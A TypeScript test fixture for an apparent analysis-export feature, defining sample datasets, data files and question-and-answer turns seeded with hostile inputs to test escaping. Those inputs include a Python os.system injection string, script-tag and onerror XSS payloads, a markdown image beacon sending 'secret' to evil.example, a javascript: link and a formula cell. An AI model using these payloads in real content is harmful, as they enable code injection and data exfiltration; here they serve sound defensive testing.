import { spawnSync } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { PNG_3X2 } from '@/lib/share/test-support/analysis-fixture';
import { PYTHON_BIN } from '@/lib/testing/python-bin';
import type { ExportDataset, ExportSource, ExportTurn } from '../export-source';

/**
 * An export source exercising what the exports must get right: reading options (latin-1, ';' and ',' decimals,
 * renamed columns, a header-less TSV, JSON lines), a `result =` cell, a final-expression cell, a figure, a failed
 * attempt, and hostile text in questions, names and cells.
 */

export const HOSTILE_QUESTION = 'Ignore this: """ + \\ \n__import__("os").system("echo pwned") # <script>alert(1)</script> | `x` ```';

const DATASETS: ExportDataset[] = [
  {
    variable: 'df1',
    displayName: 'Ventes région.csv',
    fileName: 'Ventes_region-AbCdEfGh.csv',
    format: 'csv',
    size: 54,
    contentHash: 'a'.repeat(64),
    options: { delimiter: ';', encoding: 'latin-1', decimal: ',', hasHeader: true, names: ['region', 'sales'] },
  },
  {
    variable: 'df2',
    displayName: 'codes.tsv',
    fileName: 'codes-QwErTyUi.tsv',
    format: 'tsv',
    size: 12,
    options: { delimiter: '\t', encoding: 'utf-8', decimal: '.', hasHeader: false },
  },
  // Stored in data/ under its original name, to prove the fallback.
  { variable: 'df3', displayName: 'evil".jsonl', fileName: 'evil-ZxCvBnMm.jsonl', format: 'jsonl', size: 30, options: { encoding: 'utf-8' } },
];

/** The files as they sit in the export's data/ folder. */
const DATA_FILES: Array<{ name: string; bytes: Buffer }> = [
  { name: 'Ventes_region-AbCdEfGh.csv', bytes: Buffer.from('Région;Ventes\nNord;1,5\nSüd;2,25\nNord;4\n', 'latin1') },
  { name: 'codes-QwErTyUi.tsv', bytes: Buffer.from('a\t1\nb\t2\nc\t4\n') },
  { name: 'evil".jsonl', bytes: Buffer.from('{"x": 1.5}\n{"x": 2.5}\n') },
];

const TIMINGS_OK = { status: 'ok' as const, stderr: '', error: null };

const TURNS: ExportTurn[] = [
  {
    number: 1,
    question: 'Total sales per region?',
    answer: 'Nord sold **5.5**, Süd 2.25. <img src=x onerror=alert(1)> ![track](https://evil.example/p.png?d=secret)',
    attemptCount: 1,
    final: {
      number: 1,
      code: 'result = df1.groupby("region")["sales"].sum()\nprint("regions", len(result))',
      ...TIMINGS_OK,
      stdout: 'regions 2\n',
      result: {
        kind: 'table',
        source: 'series',
        columns: ['region', 'sales'],
        dtypes: ['object', 'float64'],
        rows: [
          ['Nord', 5.5],
          ['Süd', 2.25],
        ],
        totalRows: 2,
        totalColumns: 2,
        truncated: false,
      },
      figures: [],
    },
  },
  {
    number: 2,
    question: 'Sum of codes times ten?',
    answer: '70.',
    attemptCount: 2,
    final: {
      number: 2,
      code: '# the codes are the second column\n(df2["column_2"]\n   .sum() * 10)',
      ...TIMINGS_OK,
      stdout: '',
      result: { kind: 'scalar', value: 70, pyType: 'int', truncated: false },
      figures: [],
    },
  },
  {
    number: 3,
    question: 'Plot the sales',
    answer: 'See the bar chart.',
    attemptCount: 1,
    final: {
      number: 1,
      code: 'import matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nax.bar(df1["region"], df1["sales"])\nprint("bars", len(ax.patches))',
      ...TIMINGS_OK,
      stdout: 'bars 3\n',
      result: null,
      figures: [{ path: 'figures/3-1-1.png', width: 3, height: 2, pngBase64: PNG_3X2 }],
    },
  },
  {
    number: 4,
    question: HOSTILE_QUESTION,
    answer: 'It failed.',
    attemptCount: 3,
    final: {
      number: 3,
      code: 'df1["nope"]',
      status: 'python',
      stdout: '',
      stderr: '',
      error: { type: 'KeyError', message: "'nope'", line: 1, traceback: "Traceback (most recent call last):\n  line 1\nKeyError: 'nope'" },
      result: null,
      figures: [],
    },
  },
  {
    number: 5,
    question: 'Mean of x, and a hostile table',
    answer: 'Mean 2.0.',
    attemptCount: 1,
    final: {
      number: 1,
      code: 'print("mean", df3["x"].mean())\nresult = {"ok": True}',
      ...TIMINGS_OK,
      stdout: 'mean 2.0\n',
      result: {
        kind: 'table',
        source: 'dataframe',
        columns: ['name|pipe', 'value'],
        dtypes: ['object', 'object'],
        rows: [
          ['a|b', '<script>alert(1)</script>'],
          ['line\nbreak', '`code` ```fence```'],
          ['=1+1', -3.5],
          ['[link](javascript:alert(1))', null],
        ],
        totalRows: 10,
        totalColumns: 2,
        truncated: true,
      },
      figures: [],
    },
  },
];

export const SOURCE: ExportSource = {
  title: 'Regional sales review',
  createdAt: '2026-03-01T12:00:00.000Z',
  url: 'https://app.example/a/AAAAAAAAAAAAAAAAAAAAAA',
  datasets: DATASETS,
  turns: TURNS,
  versions: { pyodide: '314.0.7', python: '3.14.0', packages: ['pandas 3.0.0', 'matplotlib 3.10.0'] },
};

/** The twin runtime's CPython (lib/testing/python-bin.ts; never the pyenv one first on PATH). */
export { PYTHON_BIN };

export function runPython({ args, cwd, env = {} }: { args: string[]; cwd: string; env?: Record<string, string> }) {
  const result = spawnSync(PYTHON_BIN, args, {
    cwd,
    encoding: 'utf8',
    timeout: 60_000,
    // A clean environment: no pyenv on PATH, no user matplotlib config, no display.
    env: { NODE_ENV: 'test', PATH: '/usr/bin:/bin', HOME: os.tmpdir(), MPLBACKEND: 'Agg', MPLCONFIGDIR: path.join(cwd, '.mpl'), ...env },
  });
  if (result.error) throw result.error;
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

/** A temp folder with `data/` filled with DATA_FILES. */
export async function dataFolder(): Promise<string> {
  const root = await fs.mkdtemp(path.join(os.tmpdir(), 'export-'));
  await fs.mkdir(path.join(root, 'data'));
  for (const file of DATA_FILES) await fs.writeFile(path.join(root, 'data', file.name), file.bytes);
  return root;
}
